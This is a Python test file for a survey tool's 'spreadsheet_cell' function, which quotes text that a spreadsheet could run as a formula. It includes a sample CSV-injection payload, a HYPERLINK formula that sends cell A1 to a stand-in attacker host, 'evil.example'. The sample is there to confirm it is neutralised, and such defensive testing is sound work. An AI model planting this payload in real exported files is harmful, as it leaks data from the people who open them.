"""``spreadsheet_cell``: text that a spreadsheet could run is quoted; everything else is left alone."""

from __future__ import annotations

import csv
import io
from datetime import date

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from surveys.spreadsheet_safety import FORMULA_STARTS, spreadsheet_cell, starts_formula

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
STARTS = st.sampled_from(sorted(FORMULA_STARTS) + [" =", "  +", "\u00a0-", " \t@"])
RISKY = st.builds(lambda head, tail: head + tail, STARTS, st.text(max_size=30))
ANY_TEXT = st.text(max_size=40) | RISKY


def test_the_payload_and_each_starting_character_are_quoted():
    assert spreadsheet_cell(PAYLOAD) == "'" + PAYLOAD
    for start in "=+-@\t\r\n":
        assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"
    assert spreadsheet_cell("  =SUM(A1)") == "'  =SUM(A1)"
    for plain in ("", "My IRO listened", "<5", "suppressed", "'quoted already", "(14)", "50%"):
        assert spreadsheet_cell(plain) == plain


def test_numbers_dates_and_none_pass_through():
    for value in (-0.5, -3, 0, 4.25, True, None, date(2026, 1, 5)):
        assert spreadsheet_cell(value) is value
        assert spreadsheet_cell(value, xlsx=True) is value


def test_xlsx_drops_what_xml_cannot_hold_then_quotes():
    assert spreadsheet_cell("a\x00b\x01c", xlsx=True) == "abc"
    assert spreadsheet_cell("\x01=1+1", xlsx=True) == "'=1+1"
    assert spreadsheet_cell("a\x00b") == "a\x00b"  # a CSV can hold it: the child's text is kept


@given(ANY_TEXT)
def test_no_cell_starts_a_formula_and_safe_text_is_unchanged(text):
    written = spreadsheet_cell(text)
    assert not starts_formula(written)
    assert written == (("'" + text) if starts_formula(text) else text)
    # Through the csv module and back, still the same safe text.
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow([written])
    [[read]] = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert read == written and not starts_formula(read)


@settings(deadline=None)
@given(ANY_TEXT)
def test_an_xlsx_cell_is_always_a_string_never_a_formula(text):
    sheet = Workbook().active
    sheet.append([spreadsheet_cell(text, xlsx=True)])  # never IllegalCharacterError
    cell = sheet["A1"]
    assert cell.data_type != "f"
    if cell.value is not None:
        assert cell.data_type == "s" and not starts_formula(cell.value)
